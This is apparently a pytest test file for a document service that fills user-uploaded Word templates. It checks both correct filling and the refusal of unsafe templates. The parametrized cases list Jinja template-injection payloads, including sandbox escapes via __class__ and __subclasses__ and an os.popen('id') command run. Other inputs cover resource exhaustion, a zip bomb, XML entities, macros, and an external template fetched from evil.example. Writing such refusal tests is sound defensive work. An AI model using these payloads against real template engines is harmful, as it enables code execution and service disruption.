"""Templates that users upload: what they may do, and how what they may not do is told."""

from __future__ import annotations

import io
import zipfile

import pytest
from deals.documents import docx
from deals.documents.facts import VARIABLES, Party
from deals.documents.rendering import Renderer
from deals.documents.sandbox import Refused
from events.testing import AT

from .samples import facts
from .word import text_of, with_members, word

SAMPLE = facts()


def refused(content: bytes) -> Refused:
    with pytest.raises(Refused) as error:
        docx.inspect(content, SAMPLE)
    return error.value


def test_a_template_is_filled_in_text_tables_and_headers() -> None:
    template = word(
        "Договор {{ document.number }} с {{ buyer.name }}{% if buyer.kpp %}, КПП {{ buyer.kpp }}{% endif %}",
        "{{ document.note|default('Без примечаний', true) }}",
        table=("{%tr for line in lines %}", "{{ loop.index }}. {{ line.title|upper }}", "{%tr endfor %}"),
        header="{{ seller.name }}",
    )
    text = text_of(docx.fill(template, SAMPLE))
    assert "Договор 2026-0017 с ООО «Ромашка», КПП 504701001" in text
    assert "Без примечаний" in text
    assert "3. НАСТРОЙКА СИСТЕМЫ УЧЁТА ЗАЯВОК" in text
    assert text.startswith("ООО «Воронка»")


def test_what_a_template_uses_and_needs_is_known() -> None:
    template = word(
        "{{ buyer.inn }} {% if buyer.kpp %}{{ buyer.kpp }}{% endif %} {{ deal.title or 'нет' }}",
        "{{ customer.email|d('') }}",
        "{% for line in lines %}{{ line.title }}{% endfor %}",
    )
    reading = docx.inspect(template, SAMPLE)
    assert reading.used == {
        "buyer.inn", "buyer.kpp", "deal.title", "customer.email", "lines[]", "lines[].title",
    }  # fmt: skip
    assert {"buyer.inn", "lines[].title"} <= reading.required
    assert not {"buyer.kpp", "customer.email"} & reading.required


def test_unknown_variables_are_named() -> None:
    error = refused(word("{{ buyer.innn }} {{ cycler }} {% for line in lines %}{{ line.cost }}{% endfor %}"))
    assert error.code == "unknown_variables"
    assert error.names == ("buyer.innn", "cycler", "lines[].cost")


def test_a_required_variable_without_a_value_is_named_when_a_document_is_made() -> None:
    person = facts(buyer=Party(name="Анна"))
    with pytest.raises(Refused) as error:
        docx.fill(word("{{ buyer.name }} {{ buyer.inn }}"), person)
    assert (error.value.code, error.value.names) == ("missing_values", ("buyer.inn",))
    assert "Анна" in text_of(docx.fill(word("{{ buyer.name }}{% if buyer.inn %}{{ buyer.inn }}{% endif %}"), person))


@pytest.mark.parametrize(
    ("source", "code"),
    [
        ("{{ ''.__class__ }}", "not_allowed"),
        ("{{ ''.__class__.__mro__[1].__subclasses__() }}", "not_allowed"),
        ("{{ buyer.__class__ }}", "not_allowed"),
        ("{{ buyer['__class__'] }}", "not_allowed"),
        ("{{ buyer|attr('__class__') }}", "not_allowed"),
        ("{{ buyer.name.upper() }}", "not_allowed"),
        ("{{ buyer.name.upper }}", "unknown_variables"),
        ("{{ buyer.items }}", "unknown_variables"),
        ("{{ lines.append }}", "unknown_variables"),
        ("{{ cycler }}", "unknown_variables"),
        ("{{ cycler.__init__.__globals__.os.popen('id').read() }}", "not_allowed"),
        ("{{ self }}", "unknown_variables"),
        ("{{ self._TemplateReference__context }}", "not_allowed"),
        ("{{ config }}", "unknown_variables"),
        ("{{ lipsum }}", "unknown_variables"),
        ("{{ 9**9**9 }}", "not_allowed"),
        ("{{ 'a' * 1000000000 }}", "not_allowed"),
        ("{% for i in range(1000000000) %}x{% endfor %}", "loop"),
        ("{% for i in 'abc' %}x{% endfor %}", "loop"),
        ("{% for a in lines %}{% for b in lines %}{% for c in lines %}x{% endfor %}{% endfor %}{% endfor %}", "loop"),
        ("{% for a in lines recursive %}x{% endfor %}", "loop"),
        ("{% include 'other' %}", "not_allowed"),
        ("{% import 'other' as o %}", "not_allowed"),
        ("{% extends 'other' %}", "not_allowed"),
        ("{% macro m() %}{% endmacro %}", "not_allowed"),
        ("{% autoescape false %}{{ buyer.name }}{% endautoescape %}", "not_allowed"),
        ("{{ buyer.name|safe }}", "not_allowed"),
        ("{{ buyer|pprint }}", "not_allowed"),
        ("{{ buyer.name", "syntax"),
        ("{% if buyer.name %}", "syntax"),
        ("{% set x, y = 1, 2 %}", "not_allowed"),
    ],
)
def test_a_template_that_reaches_further_is_refused_with_a_clear_answer(source: str, code: str) -> None:
    assert refused(word(source)).code == code


def test_what_is_refused_is_refused_wherever_it_stands() -> None:
    assert refused(word("Текст", header="{{ ''.__class__ }}")).code == "not_allowed"
    assert refused(word(table=("{{ cycler }}",))).code == "unknown_variables"


async def test_what_grows_without_end_is_stopped_by_the_limits_of_the_process() -> None:
    doubling = "{% set a = buyer.name %}" + "{% set a = a ~ a %}" * 40 + "{{ a }}"
    with pytest.raises(Refused) as error:
        await Renderer().fill(word(doubling), SAMPLE)
    assert error.value.code in ("too_much", "broken")


async def test_a_deadline_is_kept_by_killing_the_process() -> None:
    with pytest.raises(Refused) as error:
        await Renderer(deadline_seconds=0.02).compile_form(facts(count=200), AT)
    assert error.value.code == "too_slow"


def test_values_are_text_and_never_markup() -> None:
    hostile = facts(buyer=Party(name="<w:p>{{ ''.__class__ }} & «\x0b\u202e>"), title="</w:t>{% for %}")
    text = text_of(docx.fill(word("{{ buyer.name }}|{% for line in lines %}{{ line.title }}{% endfor %}"), hostile))
    assert "<w:p>{{ ''.__class__ }} & «>|</w:t>{% for %}" in text


@pytest.mark.parametrize("content", [b"", b"PK", b"no archive at all", b"PK\x03\x04" + bytes(100)])
def test_what_is_no_archive_is_no_document(content: bytes) -> None:
    assert refused(content).code == "no_docx"


def test_another_archive_is_no_document() -> None:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("hello.txt", "hello")
    assert refused(file.getvalue()).code == "no_docx"


def test_a_bomb_is_measured_before_it_is_unpacked() -> None:
    assert refused(with_members(word(), {"word/bomb.bin": bytes(20 * 1024 * 1024)})).code == "too_large"
    many = {f"word/{n}.bin": b"x" for n in range(docx.MOST_MEMBERS)}
    assert refused(with_members(word(), many)).code == "too_large"


def test_macros_entities_and_what_would_be_fetched_are_refused() -> None:
    assert refused(with_members(word(), {"word/vbaProject.bin": b"x"})).code == "macros"
    entities = b'<!DOCTYPE x [<!ENTITY a "aaaa">]><w:document/>'
    assert refused(with_members(word(), {"word/document.xml": entities})).code == "declarations"
    external = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        b'Target="https://evil.example/x.dotm" TargetMode="External"/></Relationships>'
    )
    assert refused(with_members(word(), {"word/_rels/settings.xml.rels": external})).code == "external"


def test_every_variable_of_the_facts_can_be_used() -> None:
    plain = [path for path in VARIABLES if "[]" not in path and "." in path]
    reading = docx.inspect(word(*(f"{{{{ {path}|d('') }}}}" for path in plain)), SAMPLE)
    assert reading.used == set(plain)
